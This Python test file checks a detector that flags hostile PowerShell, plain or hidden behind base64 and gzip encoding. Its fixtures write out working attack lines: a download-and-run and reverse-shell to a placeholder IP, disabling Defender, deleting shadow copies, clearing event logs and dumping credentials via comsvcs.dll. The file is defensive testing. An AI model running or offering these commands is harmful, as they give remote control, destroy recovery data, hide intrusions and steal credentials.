# SPDX-License-Identifier: Apache-2.0
"""PowerShell is graded by what it says, decoded; installers, agents and everyday administration are left alone."""

from __future__ import annotations

import base64
import gzip

import pytest
from memory_events import MemoryEvents

from headwater.detect import registry
from headwater.detect.detectors import powershell_script
from headwater.model.kinds import EventKind, Severity, Stage
from headwater.model.nouns import Finding
from headwater.model.ports import Settings


def run(*texts: str, name: str = "CommandLine", **more: object) -> list[Finding]:
    kind = EventKind.PROCESS_CREATE if name == "CommandLine" else EventKind.LOG_MESSAGE
    rows = [(kind, "2026-03-02 03:00:00", {"user": "CORP\\web", name: t, **more}) for t in texts]
    return list(registry.run(powershell_script, MemoryEvents().say("windows.powershell", "/P.evtx", *rows), Settings()))


def encoded(script: str) -> str:
    return f"powershell.exe -nop -w hidden -enc {base64.b64encode(script.encode('utf-16-le')).decode()}"


@pytest.mark.parametrize(
    ("script", "sign", "stage"),
    [
        ("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')", "download-run", Stage.EXPLOIT),
        (
            "$c=New-Object System.Net.Sockets.TCPClient('198.51.100.7',443);$s=$c.GetStream();iex $d",
            "reverse-shell",
            Stage.SPREAD,
        ),
        ("Set-MpPreference -DisableRealtimeMonitoring $true", "protection-off", Stage.COVER),
        ("Get-WmiObject Win32_ShadowCopy | ForEach-Object {$_.Delete();}", "copies-destroyed", Stage.IMPACT),
        ("Clear-EventLog -LogName Security", "log-clear", Stage.COVER),
        ("rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 624 C:\\t\\l.dmp full", "credentials", Stage.SPREAD),
    ],
)
def test_script_is_found_as_written_and_behind_its_encoding(script: str, sign: str, stage: Stage) -> None:
    (plain,) = run(script, name="ScriptBlockText")
    assert (sign in str(plain.facts["signs"]), plain.rule.stage) == (True, stage)
    (hidden,) = run(encoded(script))
    assert (hidden.rule.stage, hidden.severity) == (stage, Severity.HIGH)
    assert script[:30] in str(hidden.facts["decoded"])


def test_packed_script_is_unpacked() -> None:
    inner = "function x { $p = [Win32]::VirtualAlloc(0, 4096, 0x3000, 0x40) }"
    packed = base64.b64encode(gzip.compress(inner.encode())).decode()
    (found,) = run(f"&([scriptblock]::create((New-Object IO.StreamReader(New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,"
                   f"[Convert]::FromBase64String('{packed}'))),0))).ReadToEnd()))", name="ScriptBlockText")  # fmt: skip
    assert "base64+gzip: function x" in str(found.facts["decoded"])
    assert "memory-load" in str(found.facts["signs"])


def test_parts_of_a_script_block_are_read_together() -> None:
    parts = ["$a = (New-Object Net.WebCli", "ent).DownloadString('http://198.51.100.7/x'); Invoke-Expr", "ession $a"]
    rows = [
        (
            EventKind.LOG_MESSAGE,
            "2026-03-02 03:00:00",
            {"ScriptBlockText": t, "ScriptBlockId": "b1", "MessageNumber": n, "MessageTotal": 3},
        )
        for n, t in reversed(list(enumerate(parts, 1)))
    ]
    found = list(
        registry.run(powershell_script, MemoryEvents().say("windows.powershell", "/P.evtx", *rows), Settings())
    )
    assert [f.facts["signs"] for f in found] == ["download-run"]


@pytest.mark.parametrize(
    "script",
    [
        "iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
        "Get-Service | Where-Object Status -eq 'Running' | Export-Csv C:\\t\\services.csv",
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\backup.ps1",
        "Register-ScheduledTask -TaskName Backup -Action $a -Trigger $t",
        "Invoke-WebRequest https://updates.example.com/agent.msi -OutFile agent.msi",
        "Get-EventLog -LogName System -Newest 50",
        'powershell -Command "Get-MpPreference | Select DisableRealtimeMonitoring"',
        "New-LocalUser svc-backup -Password $p",
    ],
)
def test_everyday_scripts_are_nothing(script: str) -> None:
    assert run(script, name="ScriptBlockText") == []
    assert run(f"powershell.exe -Command {script}") == []


def test_encoded_command_of_an_agent_is_nothing() -> None:
    script = "begin { $path = 'C:\\ProgramData\\agent' } process { Get-ChildItem $path } end { Write-Output 'ok' }"
    body = base64.b64encode(script.encode("utf-16-le")).decode()
    assert run(f"PowerShell -NoProfile -NonInteractive -ExecutionPolicy Unrestricted -EncodedCommand {body}") == []
